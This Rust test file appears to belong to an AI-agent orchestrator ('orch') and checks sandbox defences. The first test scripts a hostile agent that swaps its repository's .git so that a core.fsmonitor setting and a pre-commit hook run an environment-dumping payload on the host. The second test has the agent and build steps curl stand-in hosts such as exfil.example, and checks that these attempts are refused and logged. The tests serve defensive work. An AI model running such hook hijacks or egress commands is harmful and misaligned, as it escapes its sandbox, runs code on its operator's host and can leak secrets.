//! A hostile agent end to end: what it leaves in its work tree must not drive orch. Here the
//! analyst replaces its work tree's `.git` by a repository whose `core.fsmonitor` and
//! `pre-commit` hook would run a program as orch, with orch's environment, on orch's next git
//! command. orch must refuse to run git there, fail the stage, and never run the program.

use crate::budget::write_committed;
use crate::harness::Orch;

#[test]
fn an_agent_that_replaces_dot_git_fails_its_stage_and_runs_nothing_as_orch() {
    let orch = Orch::new(None);
    let pwned = orch.path().join("pwned");
    // The payload writes where only orch (on the host) could: the data directory.
    let script = format!(
        r#"set -e
mkdir -p "$ORCH_ARTIFACT_DIR"
printf -- '---\nanalysis_status: READY\n---\n' > "$ORCH_ARTIFACT_DIR$ORCH_ARTIFACT"
printf '#!/bin/sh\nenv > {pwned}\n' > payload.sh
chmod +x payload.sh
git clone -q --bare "$(git rev-parse --git-common-dir)" /tmp/evil.git
rm .git
cp -r /tmp/evil.git .git
git config core.bare false
git config core.fsmonitor "$PWD/payload.sh"
cp payload.sh .git/hooks/pre-commit
echo replaced
"#,
        pwned = pwned.display()
    );
    let agents = format!(
        "{}\n[roles.analyst]\nkind = \"command\"\ncommand = [\"/bin/sh\", \"-c\", {}]\n",
        include_str!("../../kit/bench/agents.toml"),
        toml_string(&script)
    );
    write_committed(&orch, ".orch/agents.toml", &agents);
    orch.ok(&["item", "add", "--title", "hostile"]);
    let _ = orch.run(&["run"]);
    let log = std::fs::read_to_string(orch.path().join("logs/quick/QUICK-1/analysis-1.log"))
        .unwrap_or_default();
    assert!(log.contains("replaced"), "the attack did not run:\n{log}");
    assert!(
        !pwned.exists(),
        "orch ran the agent's program:\n{}",
        std::fs::read_to_string(&pwned).unwrap_or_default()
    );
    let item = orch.item("QUICK-1");
    assert_ne!(item["status"], "done", "{item:#}");
    let text = item.to_string();
    assert!(
        text.contains("refusing to run git in") && text.contains(".git"),
        "the refusal is named: {item:#}"
    );
}

/// `text` as a TOML basic string.
fn toml_string(text: &str) -> String {
    serde_json::Value::from(text).to_string()
}

#[test]
fn connections_the_sandbox_refuses_are_events_on_the_item_and_counted_on_metrics() {
    use std::io::Read;
    use std::process::Stdio;
    use std::time::{Duration, Instant};

    use crate::serve::{TOKEN, http};

    let orch = Orch::new(None);
    // The analyst and the development stage's test gate both try to reach hosts the project
    // does not allow (allow_hosts is empty by default), through the proxy the sandbox offers.
    let script = r#"curl -s -m 5 -o /dev/null https://exfil.example:8443/ || true
curl -s -m 5 -o /dev/null https://exfil.example:8443/again || true
mkdir -p "$ORCH_ARTIFACT_DIR"
printf -- '---\nanalysis_status: READY\n---\n' > "$ORCH_ARTIFACT_DIR$ORCH_ARTIFACT"
"#;
    let agents = format!(
        "{}\n[roles.analyst]\nkind = \"command\"\ncommand = [\"/bin/sh\", \"-c\", {}]\n",
        include_str!("../../kit/bench/agents.toml"),
        toml_string(script)
    );
    write_committed(&orch, ".orch/agents.toml", &agents);
    let gate = "curl -s -m 5 -o /dev/null http://pypi.example/simple/ || true";
    let pipeline = crate::harness::quick_pipeline()
        .replace("run = \"true\"", &format!("run = {}", toml_string(gate)));
    write_committed(&orch, ".orch/pipeline.toml", &pipeline);
    // The deploy's build command is the item's code too.
    let deploy = std::fs::read_to_string(orch.repo().join(".orch/deploy.toml")).expect("deploy");
    let build = "curl -s -m 5 -o /dev/null http://builds.example/dep.tgz || true";
    let deploy = deploy.replacen(
        "command = \"true\"",
        &format!("command = {}", toml_string(build)),
        1,
    );
    write_committed(&orch, ".orch/deploy.toml", &deploy);

    let port = crate::harness::free_port();
    let mut child = orch
        .command(&["serve", "--listen", &format!("127.0.0.1:{port}")])
        .env("ORCH_API_TOKEN", TOKEN)
        .stdout(Stdio::null())
        .stderr(Stdio::piped())
        .spawn()
        .expect("orch serve starts");
    let mut stderr = child.stderr.take().expect("stderr");
    let stderr = std::thread::spawn(move || {
        let mut text = String::new();
        let _ = stderr.read_to_string(&mut text);
        text
    });
    let deadline = Instant::now() + Duration::from_secs(20);
    while std::net::TcpStream::connect(("127.0.0.1", port)).is_err() {
        assert!(Instant::now() < deadline, "orch serve never listened");
        std::thread::sleep(Duration::from_millis(50));
    }
    let counted = |metrics: &str| -> u64 {
        metrics
            .lines()
            .find_map(|l| l.strip_prefix("orch_sandbox_egress_refused_total "))
            .and_then(|n| n.parse().ok())
            .unwrap_or_else(|| panic!("no egress counter on /metrics:\n{metrics}"))
    };
    let (status, metrics) = http(port, "GET", "/metrics", "");
    assert_eq!(status, 200, "{metrics}");
    assert_eq!(counted(&metrics), 0, "{metrics}");

    let (status, body) = http(port, "POST", "/api/v1/items", r#"{"title": "Reach out"}"#);
    assert_eq!(status, 201, "{body}");
    let deadline = Instant::now() + Duration::from_secs(90);
    let item = loop {
        let (status, body) = http(port, "GET", "/api/v1/items/QUICK-1", "");
        assert_eq!(status, 200, "{body}");
        let item: serde_json::Value = serde_json::from_str(&body).expect("json");
        let passed = |stage: &str| {
            item["events"].as_array().is_some_and(|events| {
                events
                    .iter()
                    .any(|e| e["kind"] == "stage.passed" && e["data"]["stage"] == stage)
            })
        };
        if passed("analysis") && passed("development") && passed("deploy-staging") {
            break item;
        }
        assert!(Instant::now() < deadline, "the item never moved: {item:#}");
        std::thread::sleep(Duration::from_millis(100));
    };
    let refused: Vec<_> = item["events"]
        .as_array()
        .expect("events")
        .iter()
        .filter(|e| e["kind"] == "sandbox.egress-refused")
        .map(|e| &e["data"])
        .collect();
    assert_eq!(
        refused,
        [
            &serde_json::json!({ "by": "agent", "host": "exfil.example", "port": 8443, "count": 2 }),
            &serde_json::json!({ "by": "gate:tests", "host": "pypi.example", "port": 80, "count": 1 }),
            &serde_json::json!({ "by": "build", "host": "builds.example", "port": 80, "count": 1 }),
        ],
        "{item:#}"
    );
    let (_, metrics) = http(port, "GET", "/metrics", "");
    assert_eq!(counted(&metrics), 4, "{metrics}");

    let pid = nix::unistd::Pid::from_raw(i32::try_from(child.id()).expect("pid"));
    nix::sys::signal::kill(pid, nix::sys::signal::Signal::SIGTERM).expect("SIGTERM");
    let _ = child.wait();
    let stderr = stderr.join().expect("stderr reader");
    assert!(
        stderr.contains("egress refused"),
        "logged by orch too: {stderr}"
    );
}
